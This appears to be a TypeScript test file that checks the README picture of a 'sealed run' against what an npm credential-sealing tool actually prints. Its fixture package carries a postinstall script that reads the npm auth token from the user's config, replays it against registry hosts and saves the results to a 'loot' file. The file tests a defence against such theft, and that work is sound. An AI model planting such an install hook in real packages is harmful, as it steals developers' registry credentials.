/** docs/sealed-run.svg, the README's picture: its lines are what a sealed run prints. */
import { spawn, type ChildProcess } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { hear } from "../fixtures/processes/heard.ts";
import { expectDone } from "../fixtures/homes/home.ts";
import { parsePage } from "../fixtures/documents/page.ts";
import { makeUser, runPage, type Person } from "../fixtures/documents/page-run.ts";
import { missing } from "../fixtures/programs/programs.ts";

const PICTURE = "docs/sealed-run.svg";
const REGISTRY = fileURLToPath(new URL("../fixtures/registries/npm/npm-registry.mjs", import.meta.url));
const TOKEN = "p1cture-t0ken";

/** What a package runs when it is installed: takes what npm has for the registry, and tries it. */
const SCRIPT = `
const { readFileSync, writeFileSync } = require("node:fs");
const [, place, token] = /^\\/\\/(127\\S*?)\\/:_authToken=(\\S+)/m.exec(readFileSync(process.env.npm_config_userconfig, "utf8"));
const tried = (url) => new Promise((resolve) => {
  require(url.split(":")[0]).get(url, { rejectUnauthorized: false, headers: { authorization: "Bearer " + token } }, (answer) => resolve(answer.resume().statusCode));
});
(async () => {
  const lines = ["found the token of npm: " + token, "tried it at npm.example.com: " + (await tried(process.env.REGISTRY + "/handy-colors")), "tried it at the gateway: " + (await tried("http://" + place + "/handy-colors"))];
  writeFileSync(process.env.HOME + "/loot", lines.join("\\n") + "\\n");
})();
`;

let registry: ChildProcess;
let origin: string;
let person: Person;

beforeAll(async () => {
  registry = spawn(process.execPath, [REGISTRY], { stdio: ["pipe", "pipe", "inherit"] });
  const handy = { name: "handy-colors", version: "1.0.0", scripts: { postinstall: "node collect.js" }, files: { "collect.js": SCRIPT } };
  registry.stdin?.write(`${JSON.stringify({ token: TOKEN, packages: [handy] })}\n`);
  const told = JSON.parse(await hear(registry).line(/^\{/)) as { origin: string; caFile: string };
  origin = told.origin;
  person = await makeUser({ env: { REGISTRY: origin } });
  const quiet = "audit=false\nfund=false\nupdate-notifier=false\nprogress=false\n";
  await writeFile(join(person.directory, ".npmrc"), `registry=${origin}/\ncafile=${told.caFile}\n${quiet}`);
  // npm 12 asks whether scripts may run; older ones don't.
  await mkdir(join(person.directory, "project"));
  await writeFile(join(person.directory, "project", "package.json"), JSON.stringify({ name: "project", version: "1.0.0", allowScripts: { "handy-colors": true } }));
  expectDone(await person.run("toolkey", ["config", "accept", "--yes", "--cacert", told.caFile]));
  expectDone(await person.run("toolkey", ["add", origin, "--tool", "npm"], { stdin: TOKEN }));
});
afterAll(async () => {
  await person.dispose();
  const ended = once(registry, "exit");
  registry.stdin?.end();
  await ended;
});

test.skipIf(missing("bash", "script"))("the picture shows what is printed", async () => {
  const svg = readFileSync(fileURLToPath(new URL(`../../${PICTURE}`, import.meta.url)), "utf8");
  const lines = [...svg.matchAll(/<text[^>]*>([^<]*)<\/text>/g)].map(([, text = ""]) => text.replaceAll("&lt;", "<").replaceAll("&amp;", "&"));
  expect(lines.length).toBeGreaterThan(8);
  const page = parsePage(PICTURE, ["```console", "$ cd project", ...lines, "```"].join("\n"));
  await runPage(page, { people: { "": person }, replaced: { "https://npm.example.com": origin, "  npm.example.com": `  ${new URL(origin).host}` } });
});
